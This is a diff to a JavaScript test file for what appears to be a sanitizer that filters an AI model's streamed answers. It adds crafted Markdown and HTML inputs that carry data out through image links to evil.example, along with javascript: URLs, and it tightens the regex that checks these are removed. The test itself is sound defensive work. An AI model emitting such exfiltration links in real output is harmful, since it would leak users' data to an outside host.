@@ -43,6 +43,8 @@ const joining = [
   `[picture withheld]: ${evil}\n\n![x]![a](https://evil.example/x.png)`,
   `![x <b!\n\nso\n\n<img src="${evil}"> y](${evil})`,
   `<img ![a](https://evil.example/x.png)(//evil.example/?q=${data})> src="${evil}">`,
+  `![xhttps://evil.example/?q=${data}]:<img ![a](https://evil.example/x.png) so](${evil})`,
+  `![xhttps://evil.example/?q=${data}]:<b ![a](https://evil.example/x.png)(//evil.example/?q=${data})> so](${evil})`,
   `![a](https://evil.example/x.png)(//evil.example/?q=${data})`,
   "![a](https://evil.example/x.png)(javascript:alert(1))",
   '<img src="https://evil.example/x.png">(javascript:alert(1))',
@@ -79,7 +81,7 @@ describe("an answer on its way through its guards", function () {
       for (const lengths of [[1], [2], [7], [400]]) {
         const out = (await throughGate(cut(text, lengths), output)).left.join("");
         expect(out, `${text}\n${out}`).to.not.match(
-          /!\[(?:(?!\n\n)[^\]])*\]\((?:https|\/\/)|\]\(\/\/evil.example\/\?|\]\(javascript|\]: javascript|!\[EMAIL\][\s\S]*\]: https|\]: https[\s\S]*!\[EMAIL\]|!\[x\]\[|<script|<img x="\[|<img [^>]*src/u,
+          /!\[(?:(?!\n\n)[^[\]]|\[[^[\]]*\])*\]\((?:https|\/\/)|\]\(\/\/evil.example\/\?|\]\(javascript|\]: javascript|!\[EMAIL\][\s\S]*\]: https|\]: https[\s\S]*!\[EMAIL\]|!\[x\]\[|<script|<img x="\[|<img [^>]*src/u,
         );
         if (text.includes("![x")) expect(out).to.not.match(/!\[x(?:(?!\n\n)[^\]])*\[[^\]]*\](?:(?!\n\n)[^\]])*\]\(https/u);
       }
